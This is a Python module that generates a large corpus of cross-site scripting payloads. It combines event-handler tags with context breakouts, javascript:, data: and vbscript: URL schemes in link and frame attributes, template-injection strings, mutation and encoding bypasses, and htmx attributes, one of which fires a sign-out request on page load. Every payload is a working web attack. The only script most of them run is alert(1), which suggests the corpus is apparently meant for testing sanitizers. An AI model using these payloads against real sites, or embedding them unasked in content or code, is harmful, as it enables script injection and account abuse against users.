"""Ways to smuggle a script into a page: each calls ``alert(1)`` where it works."""

from itertools import product

_HANDLERS = (
    *("<img src=x onerror={js}>", "<svg onload={js}>", "<body onload={js}>", "<video><source onerror={js}>"),
    *("<details open ontoggle={js}>", "<input autofocus onfocus={js}>", "<select autofocus onfocus={js}>"),
    *("<textarea autofocus onfocus={js}>", "<marquee onstart={js}>", "<audio src=x onerror={js}>"),
    *("<iframe onload={js}>", "<object data=x onerror={js}>", "<embed src=x onload={js}>"),
    *("<a href=# onmouseover={js}>x</a>", "<div style=animation-name:x onanimationstart={js}>x</div>"),
    *("<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><set onbegin={js} attributeName=x to=1>"),
    *("<math><mtext><img src=x onerror={js}></mtext></math>", "<form><button formaction=javascript:{js}>x"),
    *("<button autofocus onfocus={js}>x</button>", "<keygen autofocus onfocus={js}>"),
    *("<style onload={js}></style>", "<link rel=stylesheet href=x onerror={js}>", "<script>{js}</script>"),
    *("<svg><script>{js}</script></svg>", "<script src=data:,{js}></script>", "<x onclick={js}>x</x>"),
)
_WRAPPED = (
    *("{v}", '"{v}', "'{v}", '">{v}', "'>{v}", "</p>{v}", "</title>{v}", "</textarea>{v}", "</style>{v}"),
    *("</script>{v}", "--></p>{v}", "]]>{v}", "<noscript>{v}</noscript>"),
)
_SCHEMES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)"),
    *(
        "\x01javascript:alert(1)",
        " javascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
    ),
    *("javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:alert(1)"),
    *(
        "data:image/svg+xml,<svg onload=alert(1)>",
        "blob:alert(1)",
        "filesystem:alert(1)",
        "//x\\@javascript:alert(1)",
    ),
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)
_PLACES = (
    *(
        '<a href="{u}">x</a>',
        '<img src="{u}">',
        '<iframe src="{u}"></iframe>',
        '<form action="{u}"><button>x',
    ),
    *('<blockquote cite="{u}">x</blockquote>', '<svg><a xlink:href="{u}"><text>x</text></a></svg>'),
    *('<object data="{u}"></object>', '<meta http-equiv=refresh content="0;url={u}">', '<base href="{u}">'),
    '<math href="{u}">x</math>',
)
_ODD = (
    "{{constructor.constructor('alert(1)')()}}",
    "{{ ''.__class__.__mro__ }}",
    "{% print(1) %}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "＜script＞alert(1)＜/script＞",
    "\u2028alert(1)\u2029",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg/onload=alert(1)//",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<img srcset='x onerror=alert(1)'>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "\u202e<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<div hx-get=/sign-out hx-trigger=load>x</div>",
    "<div hx-on:load=alert(1)>x</div>",
    "<div data-hx-on--load=alert(1) hx-trigger=load>x</div>",
)

VECTORS = (
    *(wrap.replace("{v}", v.replace("{js}", "alert(1)")) for v, wrap in product(_HANDLERS, _WRAPPED[:8])),
    *(wrap.replace("{v}", "<img src=x onerror=alert(1)>") for wrap in _WRAPPED),
    *(place.replace("{u}", scheme) for scheme, place in product(_SCHEMES, _PLACES)),
    *_ODD,
)
